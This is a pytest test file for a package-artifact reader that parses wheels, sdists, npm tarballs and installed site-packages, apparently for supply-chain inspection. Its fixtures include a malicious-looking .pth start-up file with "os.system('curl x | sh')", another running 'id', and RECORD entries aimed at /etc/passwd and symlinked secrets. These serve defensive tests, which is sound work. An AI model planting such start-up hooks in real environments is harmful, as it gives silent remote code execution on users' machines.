"""Format recognition, identification and the installed-environment reader."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest

from custody.artifacts import (
    UNOWNED_STARTUP,
    Artifact,
    ArtifactError,
    ArtifactKind,
    IssueKind,
    Limits,
    distribution_entries,
    find_site_dirs,
    read_artifact,
    read_artifact_bytes,
    read_distribution,
    read_installed,
    read_loose_file,
    read_unowned_startup,
    sniff_format,
)
from tests.artifacts.builders import TAR_MODES, issues_of, make_tar, make_zip, member, paths

INIT_PY = b"print('hello from foo')\n"
SETUP_PY = b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"
PKG_INFO = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n"


def _wheel(name: str = "foo", version: str = "1.2.3", metadata: bytes | None = None) -> bytes:
    dist = f"{name}-{version}.dist-info"
    entries = [
        (f"{name}/__init__.py", INIT_PY),
        (f"{dist}/WHEEL", b"Wheel-Version: 1.0\n"),
        (f"{dist}/RECORD", b""),
    ]
    if metadata is not None:
        entries.append((f"{dist}/METADATA", metadata))
    return make_zip(entries)


def _sdist_entries(top: str = "pkg-1.0") -> list[tuple[str, bytes]]:
    return [
        (f"{top}/PKG-INFO", PKG_INFO),
        (f"{top}/setup.py", SETUP_PY),
        (f"{top}/pkg/__init__.py", INIT_PY),
    ]


def _assert_clean(artifact: Artifact) -> None:
    assert artifact.issues == ()
    assert artifact.error is None


# --- zip-based artifacts -------------------------------------------------------------------------


def test_wheel_name_and_version_come_from_filename() -> None:
    artifact = read_artifact_bytes(_wheel(), "foo-1.2.3-py3-none-any.whl")
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.WHEEL
    assert (artifact.name, artifact.version) == ("foo", "1.2.3")
    assert paths(artifact) == ["foo/__init__.py", "foo-1.2.3.dist-info/WHEEL", "foo-1.2.3.dist-info/RECORD"]
    init = member(artifact, "foo/__init__.py")
    assert init.data == INIT_PY
    assert init.complete
    assert init.size == len(INIT_PY)
    assert artifact.member_count == 3
    assert artifact.strip_prefix == ""
    assert artifact.source == "foo-1.2.3-py3-none-any.whl"


def test_wheel_metadata_overrides_filename() -> None:
    metadata = b"Metadata-Version: 2.1\nName: Foo-Bar\nVersion: 1.2.3.post1\n\nlong description\n"
    artifact = read_artifact_bytes(_wheel("foo", "1.2.3", metadata), "foo-1.2.3-py3-none-any.whl")
    assert (artifact.name, artifact.version) == ("Foo-Bar", "1.2.3.post1")


def test_wheel_with_unparseable_filename_has_no_name() -> None:
    artifact = read_artifact_bytes(_wheel(), "not a wheel name.whl")
    assert artifact.kind is ArtifactKind.WHEEL
    assert (artifact.name, artifact.version) == (None, None)
    assert "foo/__init__.py" in paths(artifact)


def test_read_artifact_from_disk_sets_source(tmp_path: Path) -> None:
    path = tmp_path / "foo-1.2.3-py3-none-any.whl"
    path.write_bytes(_wheel())
    artifact = read_artifact(path)
    assert artifact.source == str(path)
    assert artifact.kind is ArtifactKind.WHEEL
    assert member(artifact, "foo/__init__.py").data == INIT_PY


def test_egg_reads_pkg_info() -> None:
    data = make_zip(
        [
            ("EGG-INFO/PKG-INFO", b"Metadata-Version: 1.1\nName: eggy\nVersion: 0.3\n"),
            ("EGG-INFO/top_level.txt", b"eggy\n"),
            ("eggy/__init__.py", INIT_PY),
        ]
    )
    artifact = read_artifact_bytes(data, "eggy-0.3-py3.11.egg")
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.EGG
    assert (artifact.name, artifact.version) == ("eggy", "0.3")
    assert member(artifact, "eggy/__init__.py").data == INIT_PY
    assert artifact.strip_prefix == ""


def test_binary_member_loads_magic_prefix_only_without_issue() -> None:
    blob = b"\x7fELF" + bytes(range(256)) * 20
    artifact = read_artifact_bytes(make_zip([("foo/_speedups.so", blob)]), "foo-1.0-cp311-none-any.whl")
    so = member(artifact, "foo/_speedups.so")
    assert so.data == blob[:64]
    assert not so.complete
    assert so.size == len(blob)
    assert artifact.issues == ()  # a prefix chosen by the selector is not a truncation


# --- sdists ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", sorted(TAR_MODES))
def test_tar_sdist_any_compression(suffix: str) -> None:
    data = make_tar(_sdist_entries(), mode=TAR_MODES[suffix])
    artifact = read_artifact_bytes(data, f"pkg-1.0{suffix}")
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.SDIST
    assert (artifact.name, artifact.version) == ("pkg", "1.0")
    assert artifact.strip_prefix == "pkg-1.0/"
    assert paths(artifact) == ["pkg-1.0/PKG-INFO", "pkg-1.0/setup.py", "pkg-1.0/pkg/__init__.py"]
    assert member(artifact, "pkg-1.0/setup.py").data == SETUP_PY


def test_zip_sdist() -> None:
    artifact = read_artifact_bytes(make_zip(_sdist_entries()), "pkg-1.0.zip")
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.SDIST
    assert (artifact.name, artifact.version) == ("pkg", "1.0")
    assert artifact.strip_prefix == "pkg-1.0/"
    assert member(artifact, "pkg-1.0/setup.py").data == SETUP_PY


def test_sdist_name_from_pkg_info_when_filename_is_odd() -> None:
    artifact = read_artifact_bytes(make_tar(_sdist_entries("weird")), "download.tar.gz")
    assert artifact.strip_prefix == "weird/"
    assert (artifact.name, artifact.version) == ("pkg", "1.0")


def test_sdist_without_common_top_dir_has_no_strip_prefix() -> None:
    entries = [*_sdist_entries(), ("stray.py", b"x = 1\n")]
    artifact = read_artifact_bytes(make_tar(entries), "other-2.0.tar.gz")
    assert artifact.strip_prefix == ""
    # PKG-INFO is only trusted at the top of the (stripped) tree, so the name comes from the file name.
    assert (artifact.name, artifact.version) == ("other", "2.0")


def test_dot_slash_prefix_is_normalised() -> None:
    artifact = read_artifact_bytes(make_tar([("./pkg-1.0/setup.py", SETUP_PY)]), "pkg-1.0.tar.gz")
    assert paths(artifact) == ["pkg-1.0/setup.py"]
    assert artifact.strip_prefix == "pkg-1.0/"


# --- npm ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "filename"), [("left-pad", "left-pad-1.3.0.tgz"), ("@scope/x", "scope-x-1.3.0.tgz")]
)
def test_npm_tarball(name: str, filename: str) -> None:
    manifest = json.dumps(
        {"name": name, "version": "1.3.0", "scripts": {"postinstall": "node x.js"}}
    ).encode()
    data = make_tar([("package/package.json", manifest), ("package/index.js", b"module.exports = 1;\n")])
    artifact = read_artifact_bytes(data, filename)
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.NPM
    assert (artifact.name, artifact.version) == (name, "1.3.0")
    assert artifact.strip_prefix == "package/"
    assert member(artifact, "package/index.js").data == b"module.exports = 1;\n"


@pytest.mark.parametrize("manifest", [b"{not json", b'{"name": 3, "version": ["1"]}', b"\xff\xfe{"])
def test_npm_bad_manifest_still_npm_without_name(manifest: bytes) -> None:
    artifact = read_artifact_bytes(make_tar([("package/package.json", manifest)]), "x-1.0.0.tgz")
    assert artifact.kind is ArtifactKind.NPM
    assert (artifact.name, artifact.version) == (None, None)


def test_npm_deeply_nested_manifest_does_not_crash() -> None:
    # json.loads raises RecursionError (not ValueError) on deeply nested input.
    manifest = b"[" * 200_000
    artifact = read_artifact_bytes(make_tar([("package/package.json", manifest)]), "x-1.0.0.tgz")
    assert artifact.kind is ArtifactKind.NPM
    assert (artifact.name, artifact.version) == (None, None)
    assert member(artifact, "package/package.json").data == manifest


def test_package_dir_without_manifest_is_sdist() -> None:
    artifact = read_artifact_bytes(make_tar([("package/index.js", b"1;\n")]), "package-1.0.tar.gz")
    assert artifact.kind is ArtifactKind.SDIST
    assert artifact.strip_prefix == "package/"


# --- magic sniffing -----------------------------------------------------------------------------


def test_wheel_renamed_tar_gz_is_read_as_zip() -> None:
    artifact = read_artifact_bytes(_wheel(), "foo-1.2.3.tar.gz")
    _assert_clean(artifact)
    assert artifact.kind is ArtifactKind.SDIST  # the name decides the kind reported...
    assert member(artifact, "foo/__init__.py").data == INIT_PY  # ...the magic decides how it is read
    assert (artifact.name, artifact.version) == ("foo", "1.2.3")


def test_tar_gz_renamed_whl_is_read_as_tar() -> None:
    artifact = read_artifact_bytes(make_tar(_sdist_entries()), "pkg-1.0-py3-none-any.whl")
    assert artifact.kind is ArtifactKind.WHEEL
    assert member(artifact, "pkg-1.0/setup.py").data == SETUP_PY


def test_sniff_format() -> None:
    assert sniff_format(_wheel()[:512]) == "zip"
    assert sniff_format(make_tar(_sdist_entries(), mode="w:xz")[:512]) == "tar"
    assert sniff_format(make_tar(_sdist_entries(), mode="w")[:512]) == "tar"
    assert sniff_format(b"#!/bin/sh\n" * 60) is None


@pytest.mark.parametrize("data", [b"", b"hello world", b"PK", b"\x1f", b"<html>" + b" " * 600])
def test_non_archive_bytes_raise(data: bytes) -> None:
    with pytest.raises(ArtifactError):
        read_artifact_bytes(data, "foo-1.0-py3-none-any.whl")


def test_read_artifact_refuses_non_files(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError):
        read_artifact(tmp_path / "missing.whl")
    with pytest.raises(ArtifactError):
        read_artifact(tmp_path)
    fifo = tmp_path / "pipe.whl"
    os.mkfifo(fifo)
    with pytest.raises(ArtifactError):  # must not block waiting for a writer
        read_artifact(fifo)
    text = tmp_path / "notes.tar.gz"
    text.write_text("not an archive")
    with pytest.raises(ArtifactError):
        read_artifact(text)


# --- loose files --------------------------------------------------------------------------------


def test_loose_file(tmp_path: Path) -> None:
    path = tmp_path / "evil.pth"
    path.write_bytes(b"import os; os.system('id')\n")
    artifact = read_loose_file(str(path))
    assert artifact.kind is ArtifactKind.FILE
    assert artifact.source == str(path)
    assert (artifact.name, artifact.version) == (None, None)
    assert artifact.issues == ()
    (only,) = artifact.members
    assert (only.path, only.data, only.complete) == ("evil.pth", b"import os; os.system('id')\n", True)


def test_loose_file_truncated_and_missing(tmp_path: Path) -> None:
    path = tmp_path / "setup.py"
    path.write_bytes(b"0123456789")
    artifact = read_loose_file(str(path), limits=Limits(max_member_bytes=4))
    (only,) = artifact.members
    assert (only.data, only.size, only.complete) == (b"0123", 10, False)
    assert issues_of(artifact) == {(IssueKind.MEMBER_TRUNCATED.value, "setup.py")}
    with pytest.raises(ArtifactError):
        read_loose_file(str(tmp_path / "nope.py"))


# --- installed environments ---------------------------------------------------------------------


def _write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    return path


def _dist(site: Path, name: str, version: str, record: list[str]) -> Path:
    dist = site / f"{name}-{version}.dist-info"
    _write(dist / "METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n")
    rows = [*record, f"{dist.name}/METADATA,,", f"{dist.name}/RECORD,,"]
    _write(dist / "RECORD", "\n".join(r if "," in r else f"{r},sha256=x,1" for r in rows) + "\n")
    return dist


@pytest.fixture
def env(tmp_path: Path) -> Path:
    """<tmp>/env/lib/python3.11/site-packages with two dists, owned and unowned start-up files."""
    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
    _write(site / "foo" / "__init__.py", INIT_PY)
    _write(site / "foo" / "__pycache__" / "__init__.cpython-311.pyc", b"\x00" * 16)
    _write(site / "foo_owned.pth", "/opt/foo\n")
    _write(tmp_path / "env" / "bin" / "foo-cli", "#!/bin/sh\nexec foo\n")
    _dist(
        site,
        "foo",
        "1.0",
        [
            "foo/__init__.py",
            "foo/__pycache__/__init__.cpython-311.pyc",
            "foo_owned.pth",
            "../../../bin/foo-cli",
        ],
    )
    _write(site / "bar" / "__init__.py", "BAR = 2\n")
    _dist(site, "bar", "2.0", ["bar/__init__.py"])
    _write(site / "evil.pth", "import os; os.system('curl x | sh')\n")
    _write(site / "sitecustomize.py", "import evil\n")
    _write(site / "loose_module.py", "not a start-up file\n")
    return site


def test_installed_one_artifact_per_dist_plus_unowned(env: Path) -> None:
    artifacts = read_installed(str(env))
    assert [a.source for a in artifacts] == [
        f"{env}::bar-2.0.dist-info",
        f"{env}::foo-1.0.dist-info",
        f"{env}::{UNOWNED_STARTUP}",
    ]
    bar, foo, unowned = artifacts
    assert all(a.kind is ArtifactKind.INSTALLED for a in artifacts)
    assert (foo.name, foo.version) == ("foo", "1.0")
    assert (bar.name, bar.version) == ("bar", "2.0")
    assert paths(foo) == [
        "foo/__init__.py",
        "foo_owned.pth",
        "../../../bin/foo-cli",
        "foo-1.0.dist-info/METADATA",
        "foo-1.0.dist-info/RECORD",
    ]  # .pyc files are skipped; a path up to the env prefix is legitimate
    assert member(foo, "foo/__init__.py").data == INIT_PY
    assert member(foo, "../../../bin/foo-cli").data.startswith(b"#!/bin/sh")
    assert foo.issues == ()
    assert paths(bar) == ["bar/__init__.py", "bar-2.0.dist-info/METADATA", "bar-2.0.dist-info/RECORD"]

    assert unowned.source.endswith(UNOWNED_STARTUP)
    assert (unowned.name, unowned.version) == (None, None)
    assert sorted(paths(unowned)) == ["evil.pth", "sitecustomize.py"]
    assert member(unowned, "evil.pth").data == b"import os; os.system('curl x | sh')\n"
    assert unowned.issues == ()


def test_installed_without_unowned_startup_has_no_extra_artifact(env: Path) -> None:
    (env / "evil.pth").unlink()
    (env / "sitecustomize.py").unlink()
    sources = [a.source for a in read_installed(str(env))]
    assert len(sources) == 2
    assert not any(s.endswith(UNOWNED_STARTUP) for s in sources)


def test_installed_sitecustomize_package_is_read(env: Path) -> None:
    (env / "sitecustomize.py").unlink()
    _write(env / "sitecustomize" / "__init__.py", "import os\n")
    _write(env / "sitecustomize" / "data.bin", b"\x00")
    unowned = read_installed(str(env))[-1]
    assert unowned.source.endswith(UNOWNED_STARTUP)
    assert sorted(paths(unowned)) == ["evil.pth", "sitecustomize/__init__.py"]
    assert member(unowned, "sitecustomize/__init__.py").data == b"import os\n"
    assert unowned.issues == ()


def test_installed_symlink_in_record_not_followed(env: Path, tmp_path: Path) -> None:
    secret = _write(tmp_path / "outside" / "secret.py", "TOKEN = 'do-not-read'\n")
    (env / "foo" / "link.py").symlink_to(secret)
    (env / "foo" / "linkdir").symlink_to(secret.parent, target_is_directory=True)
    _dist(env, "foo", "1.0", ["foo/__init__.py", "foo/link.py", "foo/linkdir/secret.py"])
    foo = next(a for a in read_installed(str(env)) if a.name == "foo")
    assert issues_of(foo) == {
        (IssueKind.SYMLINK.value, "foo/link.py"),
        (IssueKind.SYMLINK.value, "foo/linkdir/secret.py"),
    }
    assert "foo/link.py" not in paths(foo)
    assert "foo/linkdir/secret.py" not in paths(foo)
    assert not any(b"do-not-read" in m.data for m in foo.members)
    assert member(foo, "foo/__init__.py").data == INIT_PY


def test_installed_unowned_startup_symlink_not_followed(env: Path, tmp_path: Path) -> None:
    target = _write(tmp_path / "elsewhere.pth", "import os\n")
    (env / "linked.pth").symlink_to(target)
    unowned = read_installed(str(env))[-1]
    assert (IssueKind.SYMLINK.value, "linked.pth") in issues_of(unowned)
    assert "linked.pth" not in paths(unowned)


def test_installed_record_escaping_root(env: Path, tmp_path: Path) -> None:
    _write(tmp_path / "outside.py", "SECRET = 1\n")
    _dist(env, "foo", "1.0", ["foo/__init__.py", "../../../../outside.py", "/etc/passwd"])
    foo = next(a for a in read_installed(str(env)) if a.name == "foo")
    assert issues_of(foo) == {
        (IssueKind.OUTSIDE_ROOT.value, "../../../../outside.py"),
        (IssueKind.OUTSIDE_ROOT.value, "/etc/passwd"),
    }
    assert paths(foo) == ["foo/__init__.py", "foo-1.0.dist-info/METADATA", "foo-1.0.dist-info/RECORD"]


def test_installed_record_with_nul_byte_does_not_crash(env: Path) -> None:
    _dist(env, "foo", "1.0", ["foo/__init__.py", "foo/a\x00b.py"])
    foo = next(a for a in read_installed(str(env)) if a.name == "foo")
    assert member(foo, "foo/__init__.py").data == INIT_PY


def test_installed_legacy_egg_info(env: Path) -> None:
    _write(env / "baz" / "__init__.py", "BAZ = 3\n")
    egg = env / "baz-0.1-py3.11.egg-info"
    _write(egg / "PKG-INFO", "Metadata-Version: 1.0\nName: baz\nVersion: 0.1\n")
    _write(egg / "installed-files.txt", "../baz/__init__.py\nPKG-INFO\n")
    baz = next(a for a in read_installed(str(env)) if a.name == "baz")
    assert baz.version == "0.1"
    assert paths(baz) == ["baz/__init__.py", "baz-0.1-py3.11.egg-info/PKG-INFO"]
    assert member(baz, "baz/__init__.py").data == b"BAZ = 3\n"


def test_installed_missing_dir_raises(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError):
        read_installed(str(tmp_path / "nope"))


def test_find_site_dirs(env: Path) -> None:
    prefix = env.parents[2]
    assert find_site_dirs(str(prefix)) == [str(env)]
    assert find_site_dirs(str(env)) == [str(env)]


def test_zip_with_directory_entries_and_stored_members() -> None:
    data = make_zip([("pkg-1.0/", b""), ("pkg-1.0/setup.py", SETUP_PY)], compression=zipfile.ZIP_STORED)
    artifact = read_artifact_bytes(data, "pkg-1.0.zip")
    assert paths(artifact) == ["pkg-1.0/setup.py"]
    assert artifact.member_count == 2


def test_one_distribution_reads_only_its_record(env: Path) -> None:
    whole = {a.source: a for a in read_installed(str(env))}
    for entry in distribution_entries(str(env)):
        alone = read_distribution(str(env), entry)
        assert alone == whole[alone.source]  # same members, issues and metadata as the whole read
    bar = read_distribution(str(env), "bar-2.0.dist-info")
    assert paths(bar) == ["bar/__init__.py", "bar-2.0.dist-info/METADATA", "bar-2.0.dist-info/RECORD"]


def test_unowned_startup_alone_matches_the_whole_read(env: Path) -> None:
    unowned = read_unowned_startup(str(env))
    assert unowned is not None
    assert unowned == read_installed(str(env))[-1]
    (env / "evil.pth").unlink()
    (env / "sitecustomize.py").unlink()
    assert read_unowned_startup(str(env)) is None


def test_distribution_entries_are_directories_only(env: Path) -> None:
    _write(env / "stray.dist-info", "not a directory\n")
    assert distribution_entries(str(env)) == ["bar-2.0.dist-info", "foo-1.0.dist-info"]
    with pytest.raises(ArtifactError):
        read_distribution(str(env), "stray.dist-info")
